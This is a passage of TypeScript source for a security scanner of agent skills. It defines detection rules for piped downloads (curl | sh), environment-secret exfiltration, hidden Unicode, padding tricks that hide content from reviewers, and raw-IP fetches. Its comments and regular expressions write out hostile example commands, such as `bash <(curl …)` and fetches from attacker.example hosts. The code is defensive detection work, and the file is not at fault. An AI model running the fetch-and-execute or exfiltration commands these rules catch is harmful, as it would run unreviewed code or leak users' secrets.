// The scanner's rule table: data, one entry per technique, matched on normalised text views.
// Every pattern is linear (bounded windows, no nested quantifiers) so padding and long lines stay cheap.

import type { View } from './text.js';
import { squattedPackage } from './typosquat.js';
import { unescapeC } from './cquote.js';

export type Severity = 'block' | 'warn' | 'info';

export interface RuleInfo {
  id: string;
  severity: Severity;
  family: string;
  message: string;
}

/** A rule matched by regular expression over the text views of each file. */
export interface TextRule extends RuleInfo {
  /** The technique. Case-insensitive; the engine adds the global flag. */
  re: RegExp;
  /** Lower-case substrings, one of which must be in the view for the rule to run (speed only). */
  any: string[];
  /**
   * Speed only, like `any`, but a proof obligation: further groups of lower-case substrings such
   * that every match of `re` contains one string of each group. A view lacking a group is skipped.
   */
  also?: string[][];
  /** A second pattern that must also match: within `lines` lines in the same view, or anywhere in the file. */
  near?: {
    re: RegExp;
    lines: number | 'file';
    docsLines?: number;
    /**
     * Within a number of lines only: a match of `re` that does not count for the match of the
     * rule at `at` in `text` (its own text is `near`).
     */
    unless?: (near: string, text: string, at: number) => boolean;
  };
  /** A match whose own text matches this (or for which it returns true) is not a finding (allow-lists, placeholders). */
  exclude?: RegExp | ((matched: string) => boolean);
  /**
   * Completes a match in code, for a condition a pattern would read at a cost that grows with the
   * line (a back-reference looked for over lines): where the text that makes the match a finding
   * ends, or -1 when none does.
   */
  completes?: (text: string, match: RegExpExecArray) => number;
  /** A match that the text around it (the view's `text`, the match at `at` of `length`) shows harmless is not a finding. */
  allow?: (text: string, at: number, length: number) => boolean;
  /** Views the rule reads; all by default. */
  views?: View['kind'][];
  /** Only files whose path matches. */
  files?: RegExp;
  /** Only matches inside the YAML frontmatter (between the opening and closing `---`). */
  frontmatter?: boolean;
  /** Mask the middle of the matched text in the evidence (secrets). */
  mask?: boolean;
  /**
   * Also read each view with the `|`, `)`, `;` and `&` inside shell quotes masked
   * (maskQuotedOperators): for patterns that end a command at those characters, which a quoted
   * one (`curl "https://x.example/a|b" | sh`) would otherwise end early.
   */
  unquote?: boolean;
}

/** Rules that the engine computes from bytes, raw text or the skill as a whole. */
export const ENGINE_RULES: RuleInfo[] = [
  { id: 'content.binary', severity: 'block', family: 'unanalysable content', message: 'executable binary (ELF, PE, Mach-O) cannot be reviewed as text' },
  { id: 'content.bytecode', severity: 'block', family: 'unanalysable content', message: 'compiled bytecode (.pyc, .class, WebAssembly) hides its source' },
  { id: 'content.archive', severity: 'block', family: 'unanalysable content', message: 'archive or Office document (a zip) nested in the skill hides its contents from review' },
  { id: 'content.mismatch', severity: 'block', family: 'unanalysable content', message: "file's bytes do not match its extension" },
  { id: 'content.unknown-binary', severity: 'block', family: 'unanalysable content', message: 'binary file of unknown type cannot be reviewed' },
  { id: 'content.encoded-unread', severity: 'block', family: 'unanalysable content', message: 'encoded blob the review cannot read (an encoded executable, inflates past the cap, past the per-file decode budget, or encoded more than twice): what it holds is not reviewed' },
  { id: 'content.media', severity: 'info', family: 'unanalysable content', message: 'image, font or PDF asset (not scanned as text)' },
  { id: 'padding.blank-lines', severity: 'warn', family: 'padding anomaly', message: 'long run of blank lines, a known trick to push content past truncating reviewers' },
  { id: 'padding.whitespace', severity: 'warn', family: 'padding anomaly', message: 'long run of spaces inside a line hides what follows off-screen' },
  { id: 'unicode.hidden', severity: 'block', family: 'hidden unicode', message: 'invisible Unicode tag characters, bidi overrides or variation-selector payloads hide text from the reader' },
  { id: 'unicode.bidi', severity: 'warn', family: 'hidden unicode', message: 'bidirectional embedding/isolate controls can reorder how code or commands display' },
  { id: 'unicode.zero-width', severity: 'warn', family: 'hidden unicode', message: 'zero-width characters inside Latin text can split words to dodge review' },
  { id: 'name.typosquat', severity: 'warn', family: 'typosquatting', message: 'skill name imitates another skill; other findings are raised to block' },
  { id: 'manifest.nested-skill', severity: 'block', family: 'manifest shadowing', message: 'OpenClaw loads this nested SKILL.md as a skill of its own, with needs and instructions the review does not show' },
  { id: 'download.fetch-run', severity: 'warn', family: 'curl | sh', message: 'downloads a file that a later command, or another file of the skill, runs (host not on the installer allow-list): what runs is not in the reviewed skill' },
  { id: 'manifest.case', severity: 'info', family: 'manifest shadowing', message: "OpenClaw's skill discovery looks for a file named exactly SKILL.md; on a case-sensitive file system this skill does not load" },
  { id: 'exec.remote-code-flow', severity: 'block', family: 'curl | sh', message: 'runs code fetched at run time: a response reaches exec, eval, Function, vm, pickle or a shell through variables and callbacks' },
  { id: 'exec.scraped-code-flow', severity: 'warn', family: 'curl | sh', message: 'evaluates a piece cut out of a fetched page with a regular expression: whoever serves the page can put code there (ast.literal_eval or json.loads read data without running it)' },
  { id: 'exfil.env-flow', severity: 'block', family: 'credential exfiltration', message: 'sends the whole environment (every secret in it) in a request, through variables' },
  { id: 'exec.remote-module', severity: 'warn', family: 'curl | sh', message: 'loads code from a URL at run time (a Deno import or `deno run`/`bun run` of a URL) that is not a pinned version on a registry whose versions cannot change: what runs is what the host serves then, with the script\'s permissions' },
  { id: 'exec.raw-ip-module', severity: 'block', family: 'raw-IP or plain-HTTP download', message: 'loads code from a raw IP address or over plain HTTP at run time (a Deno import or `deno run`/`bun run` of a URL): whoever answers there, or on the way, picks what runs' },
];

const SUDO = String.raw`(?:sudo\s+(?:-\S+\s+)*)?`;
const SHELL_NAME = String.raw`(?:ba|z|da|k|fi)?sh\b`;
const SHELL = `${SUDO}${SHELL_NAME}`;
// A program named by path or through env: `/bin/bash`, `/usr/bin/env sh`, `env python3`.
// The skill lock, skillpin's config or the attestations store at the end of a written path:
// `.clawhub/lock.json`, also quoted in pieces (`"$WS/.clawhub"/lock.json`) or with `//` and `/./`,
// and not a file beside it (`lock.json.bak`).
const LOCK_TAIL = String.raw`\.clawhub["']?\/+(?:\.\/+)*["']?(?:(?:lock|config)\.json(?![\w.-])|attestations\/)`;
const PROGRAM_PATH = String.raw`(?:(?:/usr)?(?:/local)?/bin/(?:env\s+)?|env\s+|busybox\s+)?`;
// The program that takes a pipe as code: a shell, by name or path (`| /bin/bash`, `| env sh`), or
// a script interpreter given no program of its own (bare, or `-`). `| python3 -m json.tool`,
// `| node render.js` and `| perl -ne ...` read the pipe as data.
const PIPED_SHELL = `${SUDO}${PROGRAM_PATH}${SHELL_NAME}`;
const INTERPRETER_NAME = String.raw`(?:python[23]?(?:\.\d+)?|perl|ruby|node|php|osascript(?:\s+-l\s+\w+)?|pwsh|powershell(?:\.exe)?(?:\s+-(?:c|command))?)`;
const PIPED_INTERPRETER = String.raw`${SUDO}${PROGRAM_PATH}${INTERPRETER_NAME}(?=[ \t]*(?:-[ \t]*)?(?:\n|$|[;&|)"'\x60]))`;
const PIPE_SINK = String.raw`(?:${PIPED_SHELL}|${PIPED_INTERPRETER})`;
// The program a download is piped into to run it: a shell, or an interpreter reading its program
// from the pipe: bare, or given `-` or `--` and then the installer's own arguments (`| python3 -
// --yes`, `| perl - App::cpanminus`, `| php -- --install-dir=bin`), after flags that name no
// program (`-u`, `-q`). `-c`, `-e`, `-m`, `-n`, `-p`, `-r` and a script name make the pipe data.
const DOWNLOAD_SINK = String.raw`(?:${PIPED_SHELL}|${SUDO}${PROGRAM_PATH}${INTERPRETER_NAME}(?:[ \t]+-[uqBEIsSwW]{1,3}(?=[ \t]|\n|$))*(?:[ \t]+--?(?=[ \t]|\n|$|[;&|)"'\x60])|(?=[ \t]*(?:\n|$|[;&|)"'\x60]))))`;
// Filters a download may pass through on its way to the sink, which still runs it: `| tee x.sh`
// (a copy kept), `| cat`, `| dos2unix`, `| tr -d '\r'`, `| sed …` (at most three, each bounded;
// sed's text ends in a non-blank, so only one split of the spaces before the next `|` matches).
const PIPE_FILTER = String.raw`(?:sudo\s+)?(?:tee(?:[ \t]+[^\s|;&]+){0,4}|cat(?:[ \t]+-)?|dos2unix|tr[ \t]+-d[ \t]+[^\s|;&]{1,8}|sed(?:[ \t]+[^\n|;&]{0,79}[^\s|;&])?)`;
const THROUGH_FILTERS = String.raw`(?:\|\s*${PIPE_FILTER}[ \t]*){0,3}`;
// Interpreters that take their program as an argument or read it from a file they are given.
const INTERPRETER_WORD = String.raw`\b(?:python[23]?(?:\.\d+)?|perl|ruby|node|php)`;
// What runs a download's text as code without a pipe, up to the download command: a code argument
// built from it (`sh -c "$(curl …)"`, `eval`, `python3 -c`, `node -e`, `php -r`, in backticks too),
// a process substitution read as a script (`bash <(curl …)`, `bash < <(…)`, `source <(…)`, `. <(…)`,
// `python3 <(…)`), or a here-string (`bash <<< "$(curl …)"`). `source "$(…)"` names a file: not here.
const RUNS_SUBSTITUTION = String.raw`(?:(?:${SHELL}\s+-[a-z]{0,3}c|\beval|\bosascript\s+-e|${INTERPRETER_WORD}\s+(?:-[ce]|--eval)|\bphp\s+-r)\s+["']?(?:\$\(|\x60)|(?:${SHELL}|\bsource|\.|${INTERPRETER_WORD})(?:\s+-\w*)*\s+(?:<\s*)?<\(|(?:${SHELL}|${INTERPRETER_WORD})(?:\s+-\w*)*\s*<<<\s*["']?\$\()\s*(?:sudo\s+)?`;
// A command whose argument is run as code: `eval`, `sh -c`, `osascript -e`, `python -c`, `node -e`.
const CODE_ARG = String.raw`(?:\beval|${SHELL}\s+-c|\bosascript\s+-e|\b(?:python[23]?(?:\.\d+)?|perl|ruby|node)\s+-[ce])`;
// Decoders of text-encoded bytes on the command line.
const DECODER = String.raw`(?:\b(?:base64|base32|basenc)\s+(?:-[\w-]+\s+)*(?:-d|-D|--decode|-di)\b|\bxxd\s+(?:-\w+\s+)*-r\b)`;
// PowerShell takes any prefix of -EncodedCommand (-e, -en, -enc, ...), and -ec.
const ENCODED_COMMAND = ['ec', ...Array.from({ length: 14 }, (_, i) => 'encodedcommand'.slice(0, i + 1))].sort((a, b) => b.length - a.length).join('|');
// Not public: loopback, RFC 1918's private ranges, link-local, and RFC 6598's shared address space
// 100.64.0.0/10 (carrier-grade NAT, and the addresses Tailscale gives a tailnet's devices): no
// host on the internet answers there; it is a machine of the user's own network, as 10/8 is.
const CGNAT = String.raw`100\.(?:6[4-9]|[7-9]\d|1[01]\d|12[0-7])`;
const PRIVATE_IPV4 = String.raw`(?:(?:127|10|0)\.|192\.168\.|172\.(?:1[6-9]|2\d|3[01])\.|169\.254\.|${CGNAT}\.)`;
const OCTET = String.raw`(?:25[0-5]|2[0-4]\d|1?\d?\d)`;
// An IPv4 address written another way, which curl's URL parser and inet_aton read as one: a single
// 32-bit number in decimal, hex or octal (\`3405803785\`, \`0xcb007109\`), or two to four parts,
// some in hex or octal (\`0313.0.0x71.011\`, \`203.0.29961\`). Written so, loopback and private
// addresses are public too (\`0x7f.1\`): only an attacker spells a host that way.
const OTHER_IPV4 = String.raw`(?!${OCTET}(?:\.${OCTET}){3}(?![\w.-]))(?!${PRIVATE_IPV4}\d{1,3}(?:\.\d{1,3}){0,2}(?![\w.-]))(?:0x[0-9a-f]{1,8}|0[0-7]{1,11}|[1-9]\d{4,9}|(?:(?:0x[0-9a-f]{1,2}|\d{1,4})\.){1,3}(?:0x[0-9a-f]{1,8}|\d{1,10}))(?![\w.-])`;
// An IPv6 literal other than loopback, unique-local (fc00::/7), link-local and an IPv4-mapped private address.
const PUBLIC_IPV6 = String.raw`\[(?!(?:0{0,4}:){2,7}0{0,3}1\]|::1?\]|f[cd]|fe[89ab]|::ffff:${PRIVATE_IPV4})[0-9a-f:.]{2,50}\]`;
// A raw public address as a URL's host, after the user info a URL may hold before it
// (\`https://100.64.1.1@203.0.113.9/\` fetches from 203.0.113.9).
const PUBLIC_IP = String.raw`(?:[^\s/?#@"'\x60|<>\\]{1,100}@)?(?:(?!${PRIVATE_IPV4})${OCTET}(?:\.${OCTET}){3}\b|${OTHER_IPV4}|${PUBLIC_IPV6})`;
// A plain-HTTP host on this machine or a private network (after `http://`), as a whole host name:
// `localhost.evil.example`, `10.evil.example`, `127.attacker.example` and `localhost:x@evil.example`
// (user info before a public host) are public hosts.
const LOCAL_HOST = String.raw`(?:localhost|127(?:\.\d{1,3}){3}|0\.0\.0\.0|10(?:\.\d{1,3}){3}|192\.168(?:\.\d{1,3}){2}|172\.(?:1[6-9]|2\d|3[01])(?:\.\d{1,3}){2}|${CGNAT}(?:\.\d{1,3}){2}|\[::1\])(?![\w.-])(?![^\s/?#"'\x60]*@)`;
/** A URL on this machine or a private network, judged as the raw-source rules judge one. */
export const LOCAL_URL = new RegExp(String.raw`^https?://${LOCAL_HOST}`, 'i');
// Other command-line fetchers that print a URL's body: HTTPie and xh (`http --body GET URL`),
// libwww-perl's `GET`/`lwp-request`, FreeBSD's `fetch -o - URL`. Common words, so only with the URL
// written out as their argument (after options and HTTPie's method).
const OTHER_FETCHER = String.raw`\b(?:https?|xhs?|lwp-request|GET|fetch)(?:\s+-{1,2}[\w=-]*)*(?:\s+GET)?\s+["']?`;
const FETCH = String.raw`\b(?:curl|wget|iwr|irm|invoke-webrequest|invoke-restmethod|requests\.(?:get|post)|urlopen|urlretrieve|fetch|axios(?:\.get)?|http\.get|downloadfile|downloadstring|start-bitstransfer)\b`;
const PASTE_HOSTS = String.raw`\b(?:glot\.io|pastebin\.com|paste\.ee|hastebin\.\w+|ghostbin\.\w+|rentry\.(?:co|org)|dpaste\.(?:com|org)|controlc\.com|justpaste\.it|privatebin\.\w+|pastes\.io|paste\.rs|termbin\.com|sprunge\.us|0x0\.st|pastie\.io|codepad\.org|ideone\.com|paste\.c-net\.org|snippet\.host)\b`;
// Installer hosts (and, where a host serves anyone's files, the path) of widely used tools whose
// `curl | sh` is their documented install. Only hosts whose content the tool's owner controls: not
// a wildcard under a domain that hosts anyone's files (S3 buckets under amazonaws.com, Drive and
// Sites under google.com, third-party modules under deno.land/x/).
const INSTALLER_HOSTS = String.raw`(?:sh\.rustup\.rs|get\.docker\.com|raw\.githubusercontent\.com/(?:Homebrew|nvm-sh|ohmyzsh|pyenv|rbenv|creationix|helm|aquasecurity)/|brew\.sh|deno\.land(?!/x/(?!install/))|(?:www\.)?bun\.sh|astral\.sh|get\.pnpm\.io|install\.python-poetry\.org|(?:www\.)?ollama\.(?:com|ai)|tailscale\.com|claude\.ai|(?:www\.)?openclaw\.ai|release\.solana\.com|release\.anza\.xyz|foundry\.paradigm\.xyz|get\.k3s\.io|starship\.rs|get\.sdkman\.io|fnm\.vercel\.app|get\.volta\.sh|cli\.github\.com|(?:www\.)?railway\.app|fly\.io|get\.helm\.sh|get\.scoop\.sh|install\.determinate\.systems|nixos\.org|(?:[\w-]+\.)?vercel\.com|(?:[\w-]+\.)?supabase\.com|opencode\.ai|(?:app\.)?warp\.dev|cursor\.com|(?:[\w-]+\.)?cloudflare\.com|(?:[\w-]+\.)?anthropic\.com|mise\.run|(?:www\.)?gitpod\.io|(?:[\w-]+\.)?doppler\.com|(?:www\.)?pulumi\.com|get\.pulumi\.com|(?:[\w-]+\.)?hashicorp\.com|sh\.uv\.dev|pixi\.sh|(?:[\w-]+\.)?modular\.com|(?:[\w-]+\.)?atuin\.sh|(?:[\w-]+\.)?turso\.tech|(?:[\w-]+\.)?fastly\.com|dl\.google\.com|sdk\.cloud\.google\.com|awscli\.amazonaws\.com|aka\.ms|(?:[\w-]+\.)?microsoft\.com|get\.rvm\.io|(?:www\.)?npmjs\.com|(?:install\.)?yarnpkg\.com|getcomposer\.org|cpanmin\.us|bootstrap\.pypa\.io|pdm-project\.org)`;
// An allow-listed host (and path) from the start of `host/path...`, ending where the host ends.
const INSTALLER_URL = new RegExp(String.raw`^${INSTALLER_HOSTS}(?:(?<=/)|(?=[/?#]|$))`, 'i');
// Options whose value is not the URL fetched: headers, referer, user agent, cookies, form data,
// credentials, proxy. Their URLs say nothing about what is downloaded.
// Case matters: curl's `-f` (fail) is not `-F` (form).
const NOT_FETCHED_OPTION = /(?<=^|\s)(?:-H|--header|-e|--referer|-A|--user-agent|-b|--cookie|-d|--data[\w-]*|-F|--form|-u|--user|-x|--proxy|-[Hh]eaders|-[Uu]ser[Aa]gent)(?:\s+|=)(?:"[^"\n]*"|'[^'\n]*'|@\{[^}\n]*\}|\S+)/g;
// A URL standing as a word of the command (not inside another URL's query or path).
const URL_WORD = /(?<=^|[\s"'(=])https?:\/\/[^\s"'\x60()|;&<>]+/gi;

// Git commands that move HEAD, write the index, commits or refs, or point git at another repository
// or work tree: after one, HEAD's lock is no longer the one a person reviewed (a tampered lock
// committed, a fetched branch checked out) or no longer this workspace's.
const GIT_READ_ONLY = /^(?:show|status|diff|log|ls-files|ls-tree|rev-parse|blame|cat-file|describe|grep|shortlog|version|help)$/;
const GIT_ELSEWHERE = /\bGIT_(?:DIR|WORK_TREE|INDEX_FILE|OBJECT_DIRECTORY|ALTERNATE_OBJECT_DIRECTORIES|CONFIG\w*|NAMESPACE|CEILING_DIRECTORIES|DISCOVERY_ACROSS_FILESYSTEM)\b|--git-dir\b|--work-tree\b|--namespace\b/;
// The restore itself: `git show HEAD:P > P`, `git checkout [HEAD] [--] P`, `git restore [--source=HEAD] P`,
// P being `.clawhub/lock.json` or `.clawhub/config.json` as written relative (so the same file of
// the same repository), git at a command's start with nothing before it but `sudo`.
const LOCK_PATH = String.raw`["']?(?:\.\/)?\.clawhub\/(?:lock|config)\.json["']?`;
const RESTORE_COMMAND = new RegExp(String.raw`git[^\S\n]+(?:show[^\S\n]+["']?HEAD:(?<shown>(?:\.\/)?\.clawhub\/(?:lock|config)\.json)["']?[^\S\n]*>[^\S\n]*(?<into>${LOCK_PATH})|checkout(?:[^\S\n]+HEAD)?(?:[^\S\n]+--)?[^\S\n]+(?<out>${LOCK_PATH})|restore(?:[^\S\n]+(?:--staged|--worktree|-[SW]{1,2}|--source=HEAD|-s[^\S\n]*HEAD))*[^\S\n]+(?<back>${LOCK_PATH}))[^\S\n]*(?=$|[;&|)\x60\n])`, 'y');
// What a command starts after (the text before its `git`, blanks trimmed): the line's start, an
// operator, a backtick, a prompt's `$`, a keyword, `sudo`.
const COMMAND_START = /(?:^|[;&|({\x60]|(?:^|\s)\$|\b(?:then|do|sudo))$/;

/** A network command (or an echo piped into one) that holds the variable of back-reference `ref`. */
function secretVarSend(ref: number): string {
  const back = `\\${ref}`;
  return String.raw`\b(?:curl|wget|https?|xhs?|ncat|nc|socat|openssl)\s[^\n]{0,300}?\$\{?${back}\b|\b(?:echo|printf)\b[^\n|]{0,60}?\$\{?${back}\b[^\n|]{0,60}\|\s*(?:curl|wget|ncat|nc|socat|openssl)\s`;
}

// What a temporary download's path is run after: an operator, a line break, or a word that runs
// the next one (`nohup`, `sudo`, `exec`, Start-Process, `start ""`, `cmd /c`), as ending `before`.
// Read backwards from one place (a sticky lookbehind): the cost is the word's length.
const RUN_AFTER_WORD = /(?<=\b(?<word>then|do|nohup|sudo|exec|setsid|start-process(?:\s+-filepath)?|invoke-item|start(?:\s+"[^"\n]*")?|cmd(?:\.exe)?\s+\/c))/iy;

/**
 * download.temp-exec's second half: the download's target (the match's `dl`) run as a command
 * after it, on its line or the next three: after `;`, `&`, `|`, `(`, `{`, a line break or a word
 * that runs the next one, then blanks and a quote. As the pattern read it: up to 300 characters
 * from the target to that operator on the target's line, each line after it read up to 300
 * characters long, the operator within its line's first 300. Returns where the run ends, or -1.
 * Linear: each occurrence of the target in the window is looked at once.
 */
export function runsTempTarget(text: string, m: RegExpExecArray): number {
  const dl = m.groups?.['dl'];
  if (dl === undefined || dl.length === 0) return -1;
  let base = m.index + m[0].length;
  if (text[base] === '"' || text[base] === "'") base++;
  // The lines the operator may be on: [start, end) of the target's line from `base`, then three more.
  // (Each line break looked for within 301 characters: a longer line is not passed.)
  const breakWithin = (from: number) => {
    const at = text.slice(from, from + 301).indexOf('\n');
    return at === -1 ? Math.min(text.length, from + 301) : from + at;
  };
  const reach: Array<[number, number]> = [];
  const lineEnd = breakWithin(base);
  reach.push([base, Math.min(lineEnd, base + 300)]);
  let passable = lineEnd - base <= 300 && text[lineEnd] === '\n';
  for (let k = 0, start = lineEnd + 1; k < 3 && passable; k++) {
    const end = breakWithin(start);
    reach.push([start, Math.min(end, start + 300)]);
    passable = end - start <= 300 && text[end] === '\n';
    start = end + 1;
  }
  // An operator at q is reachable when it lies in one of those spans (a line break ending a line at
  // most 300 long counts too).
  const reachable = (q: number) => reach.some(([a, b]) => q >= a && q <= b);
  const last = (reach[reach.length - 1] as [number, number])[1];
  // A run lies within the spans, or after blanks (and a quote) that follow the last of them.
  let limit = last + 1;
  while (limit < text.length && /\s/.test(text[limit] as string)) limit++;
  const window = text.slice(base, Math.min(text.length, limit + 1 + dl.length));
  const find = new RegExp(dl.replace(/[.*+?^${}()|[\]\\/-]/g, '\\$&'), 'gi');
  for (let f = find.exec(window); f !== null; f = find.exec(window)) {
    const p = base + f.index;
    const after = p + f[0].length;
    const tail = text[after] === '"' || text[after] === "'" ? after + 1 : after;
    const endsWord = tail >= text.length || /[\s;&|)]/.test(text[tail] as string);
    // Back over a quote and blanks (line breaks too) to the operator or the word before them.
    let b = p;
    if (b > base && (text[b - 1] === '"' || text[b - 1] === "'")) b--;
    let firstBreak = -1;
    while (b > base && /\s/.test(text[b - 1] as string)) {
      b--;
      if (text[b] === '\n') firstBreak = b;
    }
    let ok = false;
    if (endsWord) {
      const c = b > base ? (text[b - 1] as string) : '';
      if (c !== '' && ';&|({\n'.includes(c) && reachable(b - 1)) ok = true;
      else if (firstBreak !== -1 && reachable(firstBreak)) ok = true;
      else {
        RUN_AFTER_WORD.lastIndex = b;
        const word = RUN_AFTER_WORD.exec(text)?.groups?.['word'];
        if (word !== undefined && b - word.length >= base && reachable(b - word.length)) ok = true;
      }
    }
    if (ok) return tail;
    // Past the last reachable operator, only blanks can lie between it and a run: the first
    // occurrence there that is no run ends the search.
    if (b > last) break;
  }
  return -1;
}

/**
 * Whether the lock write at `at` is git putting back HEAD's (or the index's) lock into this
 * repository's work tree, in a text that changes neither HEAD, the index nor the repository git reads.
 * Linear on hostile text: the command is read within 300 characters of the write, and the text's
 * other git commands once per text.
 */
export function restoresCommittedLock(text: string, at: number, length: number): boolean {
  // The git command the write belongs to: the last one before it on its line, within 300 characters.
  let from = at;
  while (from > 0 && from > at - 300 && text[from - 1] !== '\n') from--;
  const near = text.slice(from, at + 3).lastIndexOf('git');
  if (near === -1) return false;
  const git = from + near;
  let before = git;
  while (before > from && (text[before - 1] === ' ' || text[before - 1] === '\t')) before--;
  if (!(before === from ? from === 0 || text[from - 1] === '\n' : COMMAND_START.test(text.slice(Math.max(from, before - 5), before)))) return false;
  RESTORE_COMMAND.lastIndex = git;
  const m = RESTORE_COMMAND.exec(text);
  // The command must hold the whole write (a restore is never longer than 300 characters).
  if (m === null || git + m[0].length < at + length || m[0].length > 300) return false;
  const g = m.groups ?? {};
  const bare = (p: string | undefined) => (p ?? '').replace(/["']/g, '').replace(/^\.\//, '');
  if (g['shown'] !== undefined && bare(g['shown']) !== bare(g['into'])) return false;
  const restore = git;
  const writes = gitWritesOf(text);
  // Every other git command of the text only reads, and none points git elsewhere.
  return writes !== 'elsewhere' && writes.every((w) => w === restore);
}

let gitWritesText: string | undefined;
let gitWrites: number[] | 'elsewhere' = [];

/** Where the text's git commands that are not read-only start, or 'elsewhere' when it points git at another repository. */
function gitWritesOf(text: string): number[] | 'elsewhere' {
  if (text === gitWritesText) return gitWrites;
  const writes: number[] = [];
  if (!GIT_ELSEWHERE.test(text)) {
    for (const m of text.matchAll(/\bgit[^\S\n]+(?:-\S+[^\S\n]+)*([a-z][\w-]*)/g)) if (!GIT_READ_ONLY.test(m[1] as string)) writes.push(m.index as number);
  }
  gitWritesText = text;
  gitWrites = GIT_ELSEWHERE.test(text) ? 'elsewhere' : writes;
  return gitWrites;
}

/**
 * True when the download in `command` (the text before the pipe) comes only from allow-listed
 * installer hosts: at least one URL is fetched, and every URL word, header values aside, has an
 * allow-listed host. The host is parsed as a URL's is, so `brew.sh.evil.example`,
 * `brew.sh@evil.example` and `evil.example/?u=https://brew.sh` are not `brew.sh`.
 */
export function fetchesOnlyFromInstallers(command: string): boolean {
  const pipe = command.indexOf('|');
  const fetch = (pipe === -1 ? command : command.slice(0, pipe)).replace(NOT_FETCHED_OPTION, ' ');
  let urls = 0;
  for (const [url] of fetch.matchAll(URL_WORD)) {
    urls++;
    const rest = url.slice(url.indexOf('://') + 3);
    const end = rest.search(/[/?#\\]/);
    const authority = end === -1 ? rest : rest.slice(0, end);
    const host = authority.slice(authority.lastIndexOf('@') + 1).replace(/:\d*$/, '').replace(/\.$/, '');
    if (!/^[a-z0-9.-]+$/i.test(host) || !INSTALLER_URL.test(host + (end === -1 ? '' : rest.slice(end)))) return false;
  }
  return urls > 0;
}
// A URL on a raw public IP address, or plain HTTP to a host that is not this machine or a private network.
const RAW_URL = new RegExp(String.raw`^(?:https?://${PUBLIC_IP}|http://(?!${LOCAL_HOST}))`, 'i');
// Short options that take a value (the rest of the cluster, or the next word): curl's and wget's.
const VALUE_SHORT = { curl: new Set('AbcCdDeEFHKmoPQrtTuUwxXyYz'), wget: new Set('aABDeiIloOPQRtTUwX') };
// Long options that take a value as the next word (`--output x.sh`, not `--output=x.sh`), of either tool.
const VALUE_LONG = new Set(['output', 'output-dir', 'output-document', 'output-file', 'append-output', 'header', 'data', 'data-binary', 'data-raw', 'data-urlencode', 'data-ascii', 'form', 'form-string', 'user', 'user-agent', 'referer', 'proxy', 'proxy-user', 'noproxy', 'cookie', 'cookie-jar', 'config', 'max-time', 'connect-timeout', 'retry', 'retry-delay', 'retry-max-time', 'write-out', 'request', 'upload-file', 'cacert', 'capath', 'cert', 'key', 'resolve', 'connect-to', 'range', 'limit-rate', 'max-filesize', 'max-redirs', 'dns-servers', 'interface', 'local-port', 'oauth2-bearer', 'unix-socket', 'abstract-unix-socket', 'trace', 'trace-ascii', 'stderr', 'dump-header', 'directory-prefix', 'input-file', 'password', 'http-user', 'http-password', 'load-cookies', 'save-cookies', 'tries', 'timeout', 'wait', 'post-data', 'post-file', 'body-data', 'body-file', 'method', 'ca-certificate', 'certificate', 'private-key', 'execute', 'accept', 'reject', 'domains', 'level',
  // Those whose value is a host or an address (a proxy, a mail recipient, a domain to skip), which
  // would read as a schemeless URL, and the rest of either tool's that take one.
  'socks4', 'socks4a', 'socks5', 'socks5-hostname', 'socks5-gssapi-service', 'preproxy', 'proxy1.0', 'proxy-header', 'proxy-cacert', 'proxy-cert', 'proxy-key', 'proxy-pass', 'proxy-service-name', 'proxy-password',
  'mail-from', 'mail-rcpt', 'mail-auth', 'exclude-domains', 'bind-address', 'doh-url', 'hsts', 'hsts-file', 'alt-svc', 'etag-save', 'etag-compare', 'netrc-file', 'proto', 'proto-default', 'proto-redir',
  'ciphers', 'tls13-ciphers', 'curves', 'time-cond', 'speed-limit', 'speed-time', 'expect100-timeout', 'keepalive-time', 'happy-eyeballs-timeout-ms', 'variable', 'json', 'url-query', 'aws-sigv4',
  'pinnedpubkey', 'cert-type', 'key-type', 'pass', 'service-name', 'sasl-authzid', 'login-options', 'ftp-account', 'ftp-port', 'ftp-user', 'ftp-password', 'ip-tos', 'rate', 'dns-timeout', 'read-timeout',
  'waitretry', 'quota', 'base', 'ca-directory', 'crl-file', 'random-file', 'egd-file', 'warc-file', 'accept-regex', 'reject-regex', 'regex-type', 'cut-dirs', 'exclude-directories', 'include-directories',
  'follow-tags', 'ignore-tags', 'restrict-file-names', 'secure-protocol', 'default-page', 'local-encoding', 'remote-encoding', 'prefer-family', 'compression', 'retry-on-http-error', 'max-redirect', 'backups', 'use-askpass',
  // curl's TLS, DNS and protocol knobs and wget's logs and WARC settings, whose value (a file, a
  // name, an address: crl.pem, gw.example) read as a schemeless URL beside an https one.
  'crlfile', 'proxy-crlfile', 'proxy-capath', 'proxy-ciphers', 'proxy-tls13-ciphers', 'proxy-pinnedpubkey', 'proxy-cert-type', 'proxy-key-type', 'proxy-tlsuser', 'proxy-tlspassword', 'proxy-tlsauthtype',
  'tlsuser', 'tlspassword', 'tlsauthtype', 'tls-max', 'sigalgs', 'engine', 'ssl-sessions', 'ech', 'delegation', 'krb', 'dns-interface', 'dns-ipv4-addr', 'dns-ipv6-addr', 'ipfs-gateway', 'haproxy-clientip',
  'telnet-option', 'tftp-blksize', 'ftp-method', 'ftp-alternative-to-user', 'ftp-ssl-ccc-mode', 'quote', 'trace-config', 'vlan-priority', 'libcurl', 'create-file-mode', 'parallel-max', 'request-target',
  'knownhosts', 'hostpubmd5', 'hostpubsha256', 'pubkey',
  'rejected-log', 'warc-header', 'warc-max-size', 'warc-dedup', 'warc-tempdir', 'bind-dns-address', 'report-speed', 'progress', 'certificate-type', 'private-key-type', 'start-pos']);
// A word curl or wget fetches as a URL although it names no scheme: a host name ending in a
// letters-only label, or a raw IPv4 address, then a port, path, query or fragment. Both tools then
// use plain HTTP (curl also FTP, DICT, LDAP, IMAP, POP3 or SMTP for host names starting so), all in clear.
const SCHEMELESS_URL = new RegExp(String.raw`^(?:[^\s@/:]{1,64}(?::[^\s@/]{0,64})?@)?(?:${PUBLIC_IP}|[a-z0-9](?:[a-z0-9-]{0,62})(?:\.[a-z0-9-]{1,63}){0,8}\.[a-z]{2,24}\.?)(?::\d{1,5})?(?:[/?#].*)?$`, 'i');

/** A schemeless URL word whose host (after any user info) is this machine or a private network. */
const LOCAL_WORD = new RegExp(String.raw`^(?:[^@/]*@)?${LOCAL_HOST}`, 'i');

/**
 * True when a curl or wget command in `command` (each up to a pipe, a closing parenthesis, a
 * backtick, `;`, `&` or a line break) fetches, over plain HTTP, a URL written without a scheme to a
 * host that is not this machine or a private network: `curl -fsSL get.example.dev/i.sh`, `wget -qO- 203.0.113.9/x`. Option
 * values (`-o install.sh`, `-H "Host: x.example"`) are not URLs; `--url` names one. A word holding
 * a variable or a placeholder (`$URL`, `<host>`) is not judged.
 */
export function fetchesSchemeless(command: string): boolean {
